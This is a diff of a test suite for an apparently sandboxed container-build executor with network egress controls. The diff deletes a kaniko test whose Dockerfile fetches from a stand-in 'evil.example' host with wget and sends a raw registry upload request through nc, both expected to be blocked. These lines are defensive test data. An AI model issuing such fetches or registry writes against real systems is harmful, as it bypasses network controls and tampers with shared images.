@@ -1,23 +1,16 @@
 import { once } from "node:events";
-import { mkdtempSync, rmSync } from "node:fs";
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
-import { tmpdir } from "node:os";
-import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { builders } from "../../src/builders/index.ts";
-import { DEFAULT_LIMITS, type Job, type JobResult } from "../../src/domain/job.ts";
+import type { Job, JobResult } from "../../src/domain/job.ts";
 import { openCanaries, type Canaries } from "../../src/executors/canaries.ts";
 import { lastingParent, listParents } from "../../src/executors/cgroup.ts";
 import { createEngineExecutor, type EngineExecutor } from "../../src/executors/engine.ts";
 import { attemptAll } from "../../src/executors/gate-attempt.ts";
 import { killAll } from "../../src/executors/kill-all.ts";
 import { freeBytes } from "../../src/lib/disk.ts";
-import { createDownloadCache } from "../../src/network/download-cache.ts";
-import { egressTo, type Egress } from "../../src/network/egress.ts";
+import { egressTo } from "../../src/network/egress.ts";
 import { isOwnAddress, isPublicAddress } from "../../src/network/public-address.ts";
-import { gatedJob } from "../../src/trials/gated-job.ts";
-import { STRATEGIES } from "../contracts/strategies.ts";
 import { diskMounts, hostileJob, survivors, untilTrue } from "./gate-jobs.ts";
 import { openLiveTestbed, type LiveTestbed } from "./live-testbed.ts";
 
@@ -28,7 +21,6 @@ const never = new AbortController().signal;
 
 let live: LiveTestbed;
 let executor: EngineExecutor;
-let egress: Egress;
 let canaries: Canaries;
 let image: string;
 let asked: string[] = [];
@@ -48,7 +40,7 @@ beforeAll(async () => {
   port = (outside.address() as AddressInfo).port;
   // At the canaries' ports too: the address alone must be what is refused.
   const rebind = canaries.denied.map((canary) => `rebind.example:${canary.port}`);
-  egress = egressTo([`good.example:${port}`, "rebind.example", ...rebind], {
+  const egress = egressTo([`good.example:${port}`, "rebind.example", ...rebind], {
     allowsAddress: (_host, address) =>
       address === OUTSIDE || (isPublicAddress(address) && !isOwnAddress(address)),
     resolve: (host, _options, callback) => {
@@ -283,67 +275,6 @@ describe("a job that cannot be held", () => {
     const boundless = { ...job, limits: { ...job.limits, diskBytes: null } };
     await expect(executor.run(boundless, never)).rejects.toMatchObject({ code: "gate-impossible" });
   });
-});
-
-describe("kaniko behind the gate", () => {
-  it("pulls its base, downloads from a listed host, pushes, and cannot write where others start from", async () => {
-    asked = [];
-    const directory = mkdtempSync(join(tmpdir(), "tare-gate-"));
-    const { allowsHost, allowsAddress, resolve } = egress;
-    const downloads = await createDownloadCache({
-      directory,
-      allowHost: allowsHost,
-      allow: allowsAddress,
-      resolve,
-    });
-    const registry = await live.startRegistry("live-gate");
-    try {
-      const [address, at] = (live.baseHost ?? "").split(":");
-      const write = `printf 'POST /v2/library/busybox/blobs/uploads/ HTTP/1.0\\r\\n\\r\\n' | nc -w 3 ${address} ${at} | grep -q ' 403 '`;
-      const dockerfile = [
-        "FROM docker.io/library/busybox:1.36",
-        `RUN wget -q -O /payload http://good.example:${port}/payload`,
-        `RUN ! wget -q -T 3 -O /leak http://evil.example:${port}/payload`,
-        `RUN ${write}`,
-        "",
-      ].join("\n");
-      const build = kanikoBuild(registry.host, downloads.address, dockerfile);
-      const { job } = builders.kaniko.job(build);
-      const result = await executor.run(gatedJob(job, build, null), never);
-      expect(lines(result).slice(-5).join("\n")).not.toMatch(/error/i);
-      expect(result.outcome).toBe("succeeded");
-      expect(asked).toStrictEqual([`GET good.example:${port}/payload`]);
-      expect((await registry.client.manifest("app", "latest"))?.manifest.layers.length).toBeGreaterThan(1);
-      expect(heard()).toStrictEqual(NOTHING_HEARD());
-    } finally {
-      await downloads.close();
-      await registry.remove();
-      rmSync(directory, { recursive: true });
-    }
-  });
-
-  function kanikoBuild(host: string, proxy: string, dockerfile: string) {
-    const projectDirectory = "/builds/group/project";
-    const path = `${projectDirectory}/Dockerfile`;
-    return {
-      name: `gate-${process.pid}-kaniko`,
-      recipe: STRATEGIES["kaniko/none"],
-      images: [`${host}/app:latest`],
-      cacheFrom: [],
-      cacheTo: [],
-      pulls: [],
-      files: [{ kind: "file", path, content: Buffer.from(dockerfile), executable: false } as const],
-      projectDirectory,
-      dockerfile: path,
-      context: projectDirectory,
-      registryHost: host,
-      credentials: null,
-      mirrors: live.mirrors,
-      proxy,
-      image: live.testbed.tools.builders.kaniko?.image ?? "",
-      limits: { ...DEFAULT_LIMITS, diskBytes: 512 * MIB, durationMs: 60_000 },
-    };
-  }
 });
 
 describe("behind them all", () => {
